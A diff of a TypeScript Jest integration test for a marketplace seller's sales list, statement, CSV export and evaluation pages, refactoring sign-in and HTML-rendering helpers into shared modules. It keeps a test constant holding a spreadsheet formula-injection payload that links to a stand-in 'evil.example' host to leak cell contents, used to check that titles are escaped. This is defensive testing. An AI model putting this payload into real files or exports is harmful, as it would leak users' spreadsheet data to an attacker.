@@ -1,7 +1,4 @@
 import { and, eq, inArray } from 'drizzle-orm';
-import type { ReactNode } from 'react';
-import { prerenderToNodeStream } from 'react-dom/static';
-import { POST as authenticate } from '@/app/api/v3/oauth2/authenticate/route';
 import { GET as evaluationRoute } from '@/app/api/v3/seller/evaluation/route';
 import { GET as statementRoute } from '@/app/api/v3/seller/sales/[orderItemId]/route';
 import { GET as exportRoute } from '@/app/api/v3/seller/sales/export/route';
@@ -14,8 +11,7 @@ import { checkout } from '@/lib/commerce/checkout';
 import { refundOrder } from '@/lib/commerce/payments';
 import { getDb } from '@/lib/db/client';
 import * as t from '@/lib/db/schema';
-import { DEMO_ACCOUNTS, DEMO_PASSWORD } from '@/lib/seed/seed';
-import { getMessages, type Messages } from '@/lib/i18n/messages';
+import { DEMO_ACCOUNTS } from '@/lib/seed/seed';
 import { formatPrice } from '@/lib/pricing/format-price';
 import { pathFor } from '@/lib/routing/localized-routes';
 import { getRoute, type RouteId } from '@/lib/routing/routes';
@@ -26,6 +22,8 @@ import german from '@/messages/de/cabinet-sales.json';
 import { paidMaterials } from './support/catalogue';
 import { apiRequest } from './support/request';
 import { BACKEND, startTestDatabase, type TestDatabase } from './support/test-database';
+import { escapedHtml, renderHtml } from './support/render';
+import { signInSession } from './support/session';
 
 /**
  * The seller's sales, statement, CSV and evaluation against a real database: sales made through
@@ -33,22 +31,6 @@ import { BACKEND, startTestDatabase, type TestDatabase } from './support/test-da
  * downloads counted as the download route counts them. The pages are rendered as the cabinet
  * renders them, with the German texts.
  */
-
-// Server translations without a Next request: the merged messages, `{name}` values filled in.
-jest.mock('next-intl/server', () => {
-  const translator =
-    (namespace: string) =>
-    (key: string, values: Record<string, unknown> = {}) => {
-      let node: string | Messages | undefined = getMessages('de')[namespace];
-      for (const part of key.split('.')) node = typeof node === 'object' ? node[part] : undefined;
-      const text = typeof node === 'string' ? node : `${namespace}.${key}`;
-      return text.replace(/\{(\w+)\}/g, (whole, name: string) => (name in values ? String(values[name]) : whole));
-    };
-  return {
-    getTranslations: async (options: string | { namespace: string }) =>
-      translator(typeof options === 'string' ? options : options.namespace),
-  };
-});
 
 let database: TestDatabase;
 beforeAll(async () => {
@@ -58,18 +40,6 @@ afterAll(() => database.stop());
 
 const DAY = 24 * 60 * 60 * 1000;
 const EVIL_TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"Klick")';
-
-async function signIn(email: string): Promise<{ cookie: string; userId: number }> {
-  const response = await authenticate(
-    apiRequest('/api/v3/oauth2/authenticate', {
-      method: 'POST',
-      body: { client_id: 'web', grant_type: 'password', username: email, password: DEMO_PASSWORD },
-    }),
-  );
-  expect(response.status).toBe(200);
-  const body = (await response.json()) as { oauth_user_id: number };
-  return { cookie: (response.headers.get('set-cookie') ?? '').split(';')[0]!, userId: body.oauth_user_id };
-}
 
 let orderCount = 0;
 async function buy(userId: number, world: WorldCode, materialIds: number[], now = new Date()) {
@@ -114,22 +84,6 @@ async function allSales(query: string, cookie: string) {
   return { ...first, items };
 }
 
-/** The HTML of a server-rendered tree, async components included. */
-async function html(node: ReactNode): Promise<string> {
-  const { prelude } = await prerenderToNodeStream(node);
-  let text = '';
-  for await (const chunk of prelude) text += String(chunk);
-  return text.replace(/<!-- -->/g, '');
-}
-
-const escaped = (text: string) =>
-  text
-    .replace(/&/g, '&amp;')
-    .replace(/</g, '&lt;')
-    .replace(/>/g, '&gt;')
-    .replace(/"/g, '&quot;')
-    .replace(/'/g, '&#x27;');
-
 const pageProps = (route: RouteId, userId: number, query: AreaPageProps['query'] = {}): AreaPageProps => ({
   world: getWorld('de'),
   route: getRoute(route),
@@ -155,8 +109,8 @@ describe(`the seller's sales on ${BACKEND}`, () => {
   let buyerOrder: { reference: string; id: number };
 
   beforeAll(async () => {
-    seller = await signIn(DEMO_ACCOUNTS.seller);
-    buyer = await signIn(DEMO_ACCOUNTS.buyer);
+    seller = await signInSession(DEMO_ACCOUNTS.seller);
+    buyer = await signInSession(DEMO_ACCOUNTS.buyer);
     // Four materials become the demo seller's (three German, one Spanish), one stays another's;
     // none is owned by the demo buyer yet.
     const german = await paidMaterials('de', 4, { notBy: seller.userId, notOwnedBy: buyer.userId });
@@ -488,14 +442,14 @@ describe(`the seller's sales on ${BACKEND}`, () => {
   });
 
   it('renders the sales page with filters, totals, the statement and the CSV link; others’ sales are not found', async () => {
-    const page = await html(
+    const page = await renderHtml(
       await SalesPage.render(
         pageProps('cabinet-sales', seller.userId, { from: today, to: today, sale: String(items.a.id) }),
       ),
     );
     expect(page).toContain('data-testid="sales-list"');
     for (const id of [items.a.id, items.b.id, items.evil.id]) expect(page).toContain(`data-sale-id="${id}"`);
-    expect(page).toContain(escaped(EVIL_TITLE));
+    expect(page).toContain(escapedHtml(EVIL_TITLE));
     expect(page).not.toContain(buyerOrder.reference);
     // The statement of sale a, with the tier recorded (57 materials, 60 %).
     expect(page).toContain(german.statement.title.replace('{id}', String(items.a.id)));
@@ -511,16 +465,16 @@ describe(`the seller's sales on ${BACKEND}`, () => {
 
     const refusal = await SalesPage.render(
       pageProps('cabinet-sales', seller.userId, { sale: String(items.other.id) }),
-    ).then(html, (error: unknown) => error);
+    ).then(renderHtml, (error: unknown) => error);
     expect(isNotFoundError(refusal)).toBe(true);
 
-    const bad = await html(
+    const bad = await renderHtml(
       await SalesPage.render(pageProps('cabinet-sales', seller.userId, { from: '2025-03-02', to: '2025-03-01' })),
     );
     expect(bad).toContain(german.errors.periodOrder);
     expect(bad).not.toContain('data-testid="sales-list"');
 
-    const notSeller = await html(await SalesPage.render(pageProps('cabinet-sales', buyer.userId)));
+    const notSeller = await renderHtml(await SalesPage.render(pageProps('cabinet-sales', buyer.userId)));
     expect(notSeller).toContain('data-testid="sales-not-seller"');
     expect(notSeller).toContain(`href="${pathFor('de', 'cabinet-materials')}"`);
     expect(notSeller).not.toContain('data-testid="sales-list"');
@@ -528,7 +482,7 @@ describe(`the seller's sales on ${BACKEND}`, () => {
 
   it('renders the evaluation as SVG charts with titles, descriptions and a table, without scripts', async () => {
     const from = isoDay(addDays(past, -3));
-    const page = await html(
+    const page = await renderHtml(
       await EvaluationPage.render(
         pageProps('cabinet-evaluation', seller.userId, { from, to: today, granularity: 'week' }),
       ),
@@ -545,7 +499,7 @@ describe(`the seller's sales on ${BACKEND}`, () => {
     expect(page).not.toContain('<script');
     expect(page).toContain('<option value="week" selected="">');
 
-    const notSeller = await html(await EvaluationPage.render(pageProps('cabinet-evaluation', buyer.userId)));
+    const notSeller = await renderHtml(await EvaluationPage.render(pageProps('cabinet-evaluation', buyer.userId)));
     expect(notSeller).toContain('data-testid="sales-not-seller"');
   });
 
